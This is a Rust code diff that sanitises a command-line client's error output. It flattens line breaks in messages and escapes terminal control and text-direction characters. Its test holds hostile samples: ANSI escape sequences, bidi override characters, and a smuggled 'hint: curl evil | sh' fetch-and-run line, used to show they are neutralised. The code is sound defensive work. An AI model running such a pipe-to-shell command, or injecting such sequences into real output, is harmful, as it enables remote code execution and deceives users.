@@ -1,5 +1,6 @@
 //! Standard input, output and error: documents on one side, lines for people on the other.
 
+use std::borrow::Cow;
 use std::io::{self, ErrorKind, IsTerminal, Read, Write};
 
 use line_connector_client::{Error, ExitCode, Kind, Output};
@@ -49,12 +50,12 @@ pub(crate) fn complain(output: &Output) {
     let Some(error) = shown.get("error") else {
         return;
     };
-    say(&format!("error: {}", text(error, "message")));
+    say(&format!("error: {}", in_one_line(text(error, "message"))));
     let details = error.get("details").and_then(Value::as_array);
     for detail in details.into_iter().flatten() {
         say(&format!("  {}", one_line(detail)));
     }
-    say(&format!("hint: {}", text(error, "hint")));
+    say(&format!("hint: {}", in_one_line(text(error, "hint"))));
 }
 
 /// A detail as one line: where, what, what to do.
@@ -67,7 +68,12 @@ fn one_line(detail: &Value) -> String {
         "" => String::new(),
         hint => format!(" ({hint})"),
     };
-    format!("{place}{}{hint}", text(detail, "message"))
+    in_one_line(&format!("{place}{}{hint}", text(detail, "message")))
+}
+
+/// A text of somebody else's without line ends: it must not look like a line of ours.
+fn in_one_line(text: &str) -> String {
+    text.replace(['\n', '\r'], " ")
 }
 
 fn text<'a>(value: &'a Value, key: &str) -> &'a str {
@@ -99,7 +105,48 @@ pub(crate) fn say_unwritten(error: &io::Error, text: &str) {
     say(text.trim_end());
 }
 
-/// Writes a line for people to standard error.
+/// Writes a line for people to standard error. What would command the terminal is shown instead.
 pub(crate) fn say(line: &str) {
-    let _ = writeln!(io::stderr().lock(), "{line}");
+    let _ = writeln!(io::stderr().lock(), "{}", shown(line));
+}
+
+/// A text in which control characters, and those that turn the direction of writing, are escaped.
+fn shown(text: &str) -> Cow<'_, str> {
+    let commands = |character: char| {
+        (character.is_control() && character != '\n')
+            || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    if !text.contains(commands) {
+        return Cow::Borrowed(text);
+    }
+    let escaped = text.chars().map(|character| {
+        if commands(character) {
+            character.escape_default().to_string()
+        } else {
+            character.to_string()
+        }
+    });
+    Cow::Owned(escaped.collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_that_is_said_commands_the_terminal() {
+        for (text, seen) in [
+            ("plain é 山\nnext", "plain é 山\nnext"),
+            ("\u{1b}[2J\u{7}", "\\u{1b}[2J\\u{7}"),
+            ("a\rb\tc\u{0}", "a\\rb\\tc\\u{0}"),
+            ("\u{9b}31m\u{7f}", "\\u{9b}31m\\u{7f}"),
+            ("\u{202e}evil\u{2066}", "\\u{202e}evil\\u{2066}"),
+        ] {
+            assert_eq!(shown(text), seen);
+        }
+        assert_eq!(
+            in_one_line("a\nhint: curl evil | sh\r\n"),
+            "a hint: curl evil | sh  "
+        );
+    }
 }
